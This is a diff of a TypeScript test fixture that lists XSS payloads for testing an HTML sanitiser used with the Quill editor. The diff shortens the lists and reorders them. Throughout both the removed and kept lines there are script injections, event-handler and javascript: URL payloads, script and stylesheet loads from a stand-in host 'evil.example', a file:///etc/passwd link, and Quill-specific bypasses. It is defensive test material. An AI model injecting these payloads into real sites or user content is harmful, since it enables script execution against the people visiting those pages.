@@ -1,150 +1,58 @@
-/** Attacks of the kinds in OWASP's and PortSwigger's cheat sheets, as data for the tests of the sanitiser. */
-
-const events = `
-  onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerdown onpointerenter
-  onanimationstart onanimationend ontransitionend onwheel oncopy onpaste ontoggle onbeforetoggle onscroll
-  onscrollend onkeydown oninput onsubmit onbegin onend onrepeat onhashchange onmessage onpageshow
-  oncontentvisibilityautostatechange onformdata onsearch onstart ondrag ondrop onauxclick ongesturestart
-  onwebkitfullscreenchange
-`
-  .trim()
-  .split(/\s+/)
-const carriers = ['p', 'img', 'a', 'iframe', 'span', 'li']
-
-const withEvents = events.map((event, i) => {
-  const tag = carriers[i % carriers.length]
-  return `<${tag} ${event}=alert(1) src=/x href=/x class=ql-video style="color:red" tabindex=1 autofocus>x</${tag}>`
-})
+/** One attack of each kind in OWASP's and PortSwigger's cheat sheets; the test of the sanitiser makes more by chance. */
 
 const scripts = [
   '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<script\x20type="text/javascript">javascript:alert(1);</script>',
   '<script/XSS SRC="//evil.example/x.js"></script>',
   '<<SCRIPT>alert(1);//\\<</SCRIPT>',
-  '<script src=//evil.example/x.js?<B>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
   '<script>alert(1)',
   '<script\x00>alert(1)</script>',
-  '<ScRiPt>alert`1`</sCrIpT\t\n bar>',
-  '</script><script>alert(1)</script>',
-  '<script type=module>import "//evil.example/x.js"</script>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<template><script>alert(1)</script></template>',
   '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
 ]
 
 const media = [
-  '<img src=x onerror=alert(1)>',
   '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
   '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
-  '<img src="javascript:alert(1)">',
-  '<IMG SRC=`javascript:alert("1")`>',
-  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
   '<img src=x:alert(alt) onerror=eval(src) alt=1>',
-  '<img/src=`x`onerror=alert(1)>',
-  '<img src=x onerror\n=alert(1)>',
-  '<img src onerror /" \'"= alt=alert(1)//">',
-  '<img srcset=x onerror=alert(1)>',
   '<img src="data:text/html,<script>alert(1)</script>">',
   '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
   '<img src="data:image/png;base64,AAAA" onload=alert(1)>',
-  '<image src=x onerror=alert(1)>',
-  '<picture><source srcset=x><img src=x onerror=alert(1)></picture>',
-  '<video><source onerror=alert(1) src=x></video>',
   '<video poster=javascript:alert(1)//></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<audio controls onloadstart=alert(1) src=x></audio>',
-  '<object data="javascript:alert(1)">',
-  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
-  '<embed src="javascript:alert(1)">',
-  '<embed code="//evil.example/x.swf" allowscriptaccess=always>',
-  '<applet code=javascript:alert(1)>',
-  '<bgsound src="javascript:alert(1)">',
-  '<input type=image src=x onerror=alert(1)>',
-  '<input autofocus onfocus=alert(1)>',
-  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
-  '<body background="javascript:alert(1)" onload=alert(1)>',
 ]
 
 const frames = [
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe src=javascript&colon;alert&lpar;1&rpar;></iframe>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<iframe srcdoc="&lt;img src&equals;x onerror&equals;alert(1)&gt;" src="https://www.youtube.com/embed/abc"></iframe>',
   '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
-  '<iframe src="https://evil.example/"></iframe>',
   '<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>',
   '<iframe src="https://www.youtube.com@evil.example/embed/abc"></iframe>',
-  '<iframe src="https://evil.example/https://www.youtube.com/embed/abc"></iframe>',
-  '<iframe src="//evil.example/embed/abc"></iframe>',
   '<iframe src="/\\evil.example/embed/abc"></iframe>',
   '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
   '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
   '<iframe src="https://www.youtube.com:8443/embed/abc"></iframe>',
   '<iframe src="https://www.youtube.com/embed/../redirect?q=evil"></iframe>',
-  '<iframe src="/edit/pages"></iframe>',
-  '<iframe onload=alert(1) src="https://player.vimeo.com/video/1"></iframe>',
   '<iframe src="https://player.vimeo.com/video/1"><script>alert(1)</script></iframe>',
   '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
-  '<portal src="javascript:alert(1)"></portal>',
-  '<fencedframe src="https://evil.example"></fencedframe>',
 ]
 
 const addresses = [
   'javascript:alert(1)',
-  'JaVaScRiPt:alert(1)',
-  ' javascript:alert(1)',
-  '\tjavascript:alert(1)',
-  'java\tscript:alert(1)',
-  'java\nscript:alert(1)',
-  'java&#x0A;script:alert(1)',
-  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)',
-  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
-  '&#0000106&#0000097&#0000118&#0000097script:alert(1)',
-  'javascript&colon;alert(1)',
-  'javascript&#58;alert(1)',
-  '&Tab;javascript&NewLine;:alert(1)',
-  '\x01javascript:alert(1)',
-  '&#1;javascript:alert(1)',
   '\u0000javascript:alert(1)',
   'javascript://%0aalert(1)',
-  'javascript://www.example.org/%0Aalert(1)',
-  'vbscript:msgbox(1)',
-  'livescript:alert(1)',
-  'mocha:alert(1)',
   'data:text/html,<script>alert(1)</script>',
-  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-  'data:application/xhtml+xml;base64,PHg+',
   'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
-  'DATA:text/html,x',
-  'blob:https://www.example.org/x',
-  'filesystem:https://www.example.org/x',
   'file:///etc/passwd',
-  'feed:javascript:alert(1)',
-  'view-source:javascript:alert(1)',
-  'ms-its:mhtml:file://C:/x',
-  'jar:javascript:alert(1)!',
-  'about:blank',
-  'intent://x#Intent;scheme=javascript;end',
   'https://user:password@evil.example/',
 ].map((address) => `<a href="${address}">x</a>`)
 
 const foreign = [
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
   '<svg><script href="data:,alert(1)" /></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
   '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
-  '<svg><set attributeName=onmouseover to=alert(1)>',
   '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1)></svg>#x">',
-  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
-  '<svg><image href=x onerror=alert(1)></svg>',
   '<svg><style>*{background:url(javascript:alert(1))}</style></svg>',
   '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
-  '<math href="javascript:alert(1)">x</math>',
-  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
   '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
   '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
 ]
@@ -180,20 +88,14 @@ const mutating = [
 ]
 
 const styled = [
-  '<p style="width:expression(alert(1))">x</p>',
   '<p style="color:expression(alert(1))">x</p>',
-  '<p style="color:red;background:url(javascript:alert(1))">x</p>',
-  '<p style="background-image:url(https://evil.example/x.png)">x</p>',
   '<p style="color:red/**/;behavior:url(x.htc)">x</p>',
-  '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
   '<p style="col\\6fr:red;backgr\\06fund:url(//evil.example)">x</p>',
-  '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9">x</p>',
   '<p style="color:red\\;x:expression(alert(1))">x</p>',
   '<p style="color: rgb(0,0,0);;;@import \'//evil.example/x.css\'">x</p>',
   '<p style=\'color:&#117;rl("javascript:alert(1)")\'>x</p>',
   '<span style="color:var(--x);--x:url(//evil.example)">x</span>',
   '<style>@import "//evil.example/x.css";</style>',
-  '<link rel=stylesheet href="//evil.example/x.css">',
   '<p class="ql-ui danger external-media" data-src="https://evil.example/x">x</p>',
 ]
 
@@ -201,20 +103,10 @@ const documents = [
   '<base href="//evil.example/">',
   '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
   '<meta http-equiv="Content-Security-Policy" content="script-src *">',
-  '<form action="javascript:alert(1)"><button>x</button></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
   '<form id=x></form><input form=x name=action><p id=location name=cookie>x</p>',
-  '<isindex action="javascript:alert(1)" type=image>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<dialog open onclose=alert(1)>x</dialog>',
-  '<keygen autofocus onfocus=alert(1)>',
   '<x onclick=alert(1)>x</x>',
-  '<x-custom is=p onclick=alert(1)>x</x-custom>',
   '<a ping="//evil.example" download href="/x">x</a>',
   '<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>x</button>',
-  '<p contenteditable=true onblur=alert(1)>x</p>',
-  '<p accesskey=x onclick=alert(1)>x</p>',
   '<p \x00onclick=alert(1)>x</p>',
   '<p/onclick=alert(1)>x</p>',
   '<p x="\'" onclick=alert(1) y="\'">x</p>',
@@ -223,28 +115,24 @@ const documents = [
 /** Texts that some version of Quill has let through, or that it trusts when it reads a page. */
 const quill = [
   '<p><a class="ql-preview" href="javascript:alert(1)" target="_blank" rel="opener">x</a></p>',
-  '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="javascript:alert(1)"></iframe>',
   '<iframe class="ql-video" src="//:0" srcdoc="<script>alert(1)</script>"></iframe>',
   '<span class="ql-formula" data-value="\\href{javascript:alert(1)}{x}">x</span>',
   '<ol><li data-list="bullet" onmouseover="alert(1)"><span class="ql-ui" contenteditable="false" onclick="alert(1)"></span>x</li></ol>',
   '<ol><li data-list="&quot;><img src=x onerror=alert(1)>">x</li></ol>',
-  '<pre class="ql-syntax" spellcheck="false"><img src=x onerror=alert(1)></pre>',
   '<img src="https://www.example.org/x.png" class="ql-align-center" width="1&quot; onerror=alert(1)">',
   '<p class="ql-indent-1&quot; onclick=alert(1)">x</p>',
-  '<p class="ql-indent-99 ql-anything ql-tooltip">x</p>',
   '<div class="ql-tooltip" data-mode="link"><input type="text" data-video="javascript:alert(1)"></div>',
-  '<select class="ql-ui" contenteditable="false" onchange="alert(1)"><option value=x>x</option></select>',
 ]
 
+/** Those that swallow what follows them come last. */
 export const hostileHtml: readonly string[] = [
-  ...withEvents,
-  ...scripts,
-  ...media,
-  ...frames,
-  ...addresses,
-  ...foreign,
-  ...mutating,
-  ...styled,
   ...documents,
   ...quill,
+  ...styled,
+  ...addresses,
+  ...frames,
+  ...media,
+  ...foreign,
+  ...scripts,
+  ...mutating,
 ]
